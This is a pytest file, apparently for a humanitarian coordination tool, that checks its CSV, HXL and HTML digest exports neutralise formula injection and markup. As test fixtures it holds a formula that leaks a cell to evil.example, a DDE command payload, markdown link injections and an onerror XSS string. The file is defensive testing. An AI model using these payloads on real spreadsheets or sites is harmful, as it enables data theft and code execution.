"""Safe exports through the real commands: what people typed never becomes a formula in the desk's
spreadsheet (CSV, HXL), HXL speaks ISO alpha-3 as HDX tools expect (read back with libhxl), and a
report's title is shown as text in the digest, never as an image, a link or HTML."""

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import hxl
import pytest

from services.lessons import handlers as lessons_handlers
from services.lessons import store as lessons_store
from services.roster.admin import import_text
from services.roster.config import Settings as RosterSettings
from services.roster.directory import CSV_COLUMNS, HXL_COLUMNS
from shared import events
from shared.clock import ManualClock, shift_shared_clock
from shared.exports import FORMULA_STARTS, plausible_phone
from shared.store import Database
from tests.helpers import cli, roster_env, service_env

NOW = datetime(2026, 3, 2, 9, tzinfo=UTC)
HEADER = ["name", "email", "phone", "telegram", "organisation", "languages", "timezone", "country", "duty_station",
          "region", "post_title", "role", "start", "planned_end", "actual_end", "hats", "trainings"]
EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&B2,"Amadou Diallo")'
EVIL_HATS = "Deputy HC;=cmd|' /C calc'!A0"


def _roster() -> str:
    start, end = (NOW - timedelta(days=30)).date().isoformat(), (NOW + timedelta(days=200)).date().isoformat()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER)
    writer.writerows([
        [EVIL_NAME, "amadou.diallo@ocha.example", "+223 20 22 33 44", "AmadouD", "@SUM(1+1)", "fr", "", "ML",
         "-Bamako", "ROWCA", "+Head of office", "cmcoord_officer", start, end, "", EVIL_HATS,
         "UN-CMCoord Course@2020-01-01"],
        ["Aïcha Moussa", "aicha.moussa@wfp.example", "=1+1", "", "WFP", "fr", "", "NE", "Niamey", "ROWCA",
         "Focal point", "focal_point", start, end, "", "", ""],
    ])
    return out.getvalue()


@pytest.fixture
async def roster_home(tmp_path: Path) -> dict[str, str]:
    """A roster with hostile cells, and the environment of a `cmcoord roster` command whose shared
    clock reads the day the roster was imported."""
    settings = RosterSettings(home=tmp_path / "home", nats_url="nats://127.0.0.1:1")
    _, errors, _ = await import_text(_roster(), settings=settings, clock=ManualClock(NOW), publish=False)
    assert errors == []
    clock_file = tmp_path / "clock"
    shift_shared_clock(clock_file, NOW - datetime.now(UTC))
    return roster_env(settings, CMCOORD_CLOCK_FILE=str(clock_file))


def _no_formula_starts(rows: list[list[str]], *, phone_column: int) -> None:
    for row in rows:
        for i, cell in enumerate(row):
            if cell[:1] in FORMULA_STARTS:
                assert i == phone_column and plausible_phone(cell), (i, cell)


async def test_the_directory_csv_neutralises_formulas_and_keeps_phone_numbers(roster_home: dict[str, str]) -> None:
    code, out, err = await cli("roster", "directory", "--format", "csv", env=roster_home)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == [name for name, _ in CSV_COLUMNS]
    by_email = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    amadou, aicha = by_email["amadou.diallo@ocha.example"], by_email["aicha.moussa@wfp.example"]
    assert amadou["name"] == "'" + EVIL_NAME
    assert amadou["organisation"] == "'@SUM(1+1)"
    assert (amadou["duty_station"], amadou["post_title"]) == ("'-Bamako", "'+Head of office")
    assert amadou["phone"] == "+223 20 22 33 44"  # a phone number stays readable
    assert aicha["phone"] == "'=1+1"  # a formula in the phone column does not
    assert amadou["country"] == "ML" and amadou["region"] == "ROWCA"
    # the hats' `;` cannot split the cell in a spreadsheet that reads `;` as the separator
    assert f'"{EVIL_HATS}"' in out and amadou["hats"] == EVIL_HATS
    _no_formula_starts(rows, phone_column=2)


async def test_the_directory_hxl_reads_back_with_libhxl(roster_home: dict[str, str], tmp_path: Path) -> None:
    code, out, err = await cli("roster", "directory", "--format", "hxl", "--region", "ROWCA", env=roster_home)
    assert code == 0, err
    _no_formula_starts(list(csv.reader(io.StringIO(out))), phone_column=2)
    path = tmp_path / "directory.csv"
    path.write_text(out)
    data = hxl.data(str(path), hxl.InputOptions(allow_local=True))
    assert [c.display_tag for c in data.columns] == [tag for _, tag in HXL_COLUMNS]
    assert [c.header for c in data.columns] == [name for name, _ in HXL_COLUMNS]
    rows = {row.get("#contact+email"): row for row in data}
    assert set(rows) == {"amadou.diallo@ocha.example", "aicha.moussa@wfp.example"}
    # `#country+code` (which also matches +v_iso2) finds ISO alpha-3 first; alpha-2 has its own column
    assert {e: r.get("#country+code") for e, r in rows.items()} == {
        "amadou.diallo@ocha.example": "MLI", "aicha.moussa@wfp.example": "NER"}
    assert {r.get("#country+code+v_iso2") for r in rows.values()} == {"ML", "NE"}
    amadou = rows["amadou.diallo@ocha.example"]
    assert amadou.get("#contact+name") == "'" + EVIL_NAME
    assert amadou.get("#contact+phone") == "+223 20 22 33 44"
    assert amadou.get("#org") == "'@SUM(1+1)"
    assert amadou.get("#meta+hats") == EVIL_HATS
    assert (amadou.get("#region+code"), amadou.get("#country+name"), amadou.get("#loc")) == ("ROWCA", "Mali", "'-Bamako")
    assert rows["aicha.moussa@wfp.example"].get("#contact+phone") == "'=1+1"


# --- lessons: export and digest -------------------------------------------------

TITLES = {  # reference -> the report's first line (its title), classification
    "R-EXP00001": ("![](https://evil.example/x.png) convoys turned back at the bridge", "public"),
    "R-EXP00002": ("[click](https://evil.example) for the checkpoint list", "community"),
    "R-EXP00003": ("<img src=x onerror=alert(1)> access denied at Mopti", "public"),
    "R-EXP00004": ('=HYPERLINK("https://evil.example","more") notification ignored', "public"),
    "R-EXP00005": ("-- escorts imposed on every convoy", "public"),
}


@pytest.fixture
async def lessons_home(tmp_path: Path) -> Path:
    db = Database(f"sqlite+aiosqlite:///{tmp_path / 'home' / 'lessons.db'}")
    await lessons_store.prepare(db)
    for day, (ref, (title, classification)) in enumerate(TITLES.items(), start=1):
        clock = ManualClock(datetime(2026, 7, day, 9, tzinfo=UTC))
        async with db.unit_of_work(source="test", clock=clock) as uow:
            await lessons_handlers.record_report(uow, events.ReportSubmitted(
                report_id=uuid.uuid4(), reference=ref, person_id=uuid.uuid4(), country="ML", themes=["access"],
                text=f"{title}\n=1+1 in the body too, and the text goes on for a while.",
                classification=classification, submitted_at=clock.now()), threshold=0.3)  # type: ignore[arg-type]
    await db.dispose()
    return tmp_path / "home"


async def test_the_lessons_csv_export_neutralises_formulas(lessons_home: Path) -> None:
    code, out, err = await cli("lessons", "export", "--as", "public", "--format", "csv",
                               env=service_env(lessons_home, "nats://127.0.0.1:1"))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    titles = {r["reference"]: r["title"] for r in rows}
    assert titles == {
        "R-EXP00001": TITLES["R-EXP00001"][0], "R-EXP00003": TITLES["R-EXP00003"][0],
        "R-EXP00004": "'" + TITLES["R-EXP00004"][0], "R-EXP00005": "'" + TITLES["R-EXP00005"][0]}
    assert all(r["body"].startswith("'") == (r["reference"] in ("R-EXP00004", "R-EXP00005")) for r in rows)
    _no_formula_starts(list(csv.reader(io.StringIO(out))), phone_column=-1)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


async def test_report_titles_show_as_text_in_the_digest(lessons_home: Path, tmp_path: Path) -> None:
    code, _, err = await cli("lessons", "digest", "--quarter", "2026Q3", "--out", str(tmp_path / "out"),
                             env=service_env(lessons_home, "nats://127.0.0.1:1"))
    assert code == 0, err
    html = (tmp_path / "out" / "cmcoord-digest-2026Q3.html").read_text()
    page = _Elements()
    page.feed(html)
    tags = [tag for tag, _ in page.tags]
    assert "img" not in tags and "a" not in tags and "script" not in tags
    assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
    shown = " ".join("".join(page.text).split())
    for title, _ in TITLES.values():
        assert title in shown  # the very characters typed, as text
    assert tags.count("li") >= len(TITLES)  # each listed: the digest still says what it should
